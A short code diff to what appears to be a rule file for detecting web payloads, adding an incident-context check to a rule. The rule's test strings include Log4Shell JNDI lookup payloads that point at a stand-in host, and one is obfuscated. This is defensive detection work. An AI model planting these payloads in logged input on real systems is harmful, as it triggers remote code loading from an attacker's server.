@@ -1,6 +1,7 @@
 import type { RuleSpec } from "../../src/contracts/rule.ts";
 import type { JobKind } from "../../src/contracts/verdict.ts";
 import { around, before, inOwnScript, inOwnStatement } from "./mention.ts";
+import { unlessOfIncident } from "./of-others.ts";
 import { list } from "./phrases.ts";
 
 /** Arguments of a proposed call. In prose such strings are talk about attacks. */
@@ -288,6 +289,7 @@ export const webPayloadRules: readonly RuleSpec[] = [
     why: "Logged once, it loads code from an attacker's server (CVE-2021-44228).",
     hits: [`\${jndi:ldap://x.example/a}`, `\${\${lower:j}ndi:rmi://x.example/a}`],
     misses: [`\${env:HOME}`, "jndi is a Java API", `\${lower}`],
+    confirm: unlessOfIncident,
   },
   {
     id: "TOOL-1170",
